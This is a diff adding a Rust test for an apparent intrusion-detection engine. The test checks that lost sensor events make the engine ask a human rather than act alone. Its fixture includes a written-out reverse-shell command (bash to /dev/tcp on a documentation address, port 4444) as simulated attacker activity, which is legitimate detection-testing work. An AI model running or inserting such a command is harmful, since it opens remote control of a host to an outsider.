@@ -1,6 +1,6 @@
 //! The road from event to ruling: panel, correlator and court together, as the engine joins them.
 
-#![allow(clippy::unwrap_used)]
+#![allow(clippy::unwrap_used, clippy::panic)] // a test fails by panic
 
 use std::sync::Arc;
 
@@ -158,4 +158,39 @@ fn a_node_application_that_runs_a_helper_is_never_acted_on_alone() {
     assert!(incident.confidence.get() < 0.75, "{}", incident.confidence);
     let rulings = bench.rulings(&incident, Mode::Aggressive, &[helper]);
     assert!(rulings.iter().all(|ruling| matches!(ruling, Ruling::Ask { .. })), "{rulings:?}");
+}
+
+#[test]
+fn a_loss_in_the_story_takes_the_last_word_from_the_agent() {
+    for (from, to, count, touched) in [(1, 2, 40, true), (-20, -10, 7, true), (2, 3, 0, true), (-500, -400, 9, false), (-20, -10, 0, false)]
+    {
+        let mut bench = Bench::new();
+        let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
+        let shell = process(900, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], Some(&nginx), None);
+        let mut inner = Process::clone(&process(901, "/usr/bin/bash", &["bash", "-i"], Some(&shell), None));
+        inner.stdio_sockets = 0b111;
+        let inner = Arc::new(inner);
+        bench.see(&shell, EventKind::Exec);
+        bench.see(&shell, connect(FAR, 4444));
+        let hop = if count > 0 { "lane-bulk" } else { "the sensors changed" };
+        bench.correlator.loss(&Loss { from: Some(at(from)), to: Some(at(to)), ..Loss::new(hop, count) }, at(to));
+        let last = bench.see(&inner, EventKind::Exec).pop().unwrap().incident;
+        assert_eq!(last.complete, !touched, "{count} lost from {from} to {to}");
+        let evidence = bench.correlator.explain(last.id, &[]).unwrap().evidence;
+        assert_eq!(evidence.starts_with("incomplete"), touched, "{evidence}");
+        let rulings = bench.rulings(&last, Mode::Balanced, &[Arc::clone(&shell), Arc::clone(&inner)]);
+        assert!(!rulings.is_empty());
+        for ruling in rulings {
+            match ruling {
+                Ruling::Act(warrant) => {
+                    assert!(!touched, "acted alone on incomplete evidence: {}", warrant.plan());
+                    assert!(warrant.plan().kind().is_reversible());
+                }
+                Ruling::Ask { plan, held_because, .. } => {
+                    assert!(touched && held_because.contains("evidence was lost"), "{plan}: {held_because}");
+                }
+                Ruling::Refuse { plan, reason } => panic!("{plan}: {reason}"),
+            }
+        }
+    }
 }
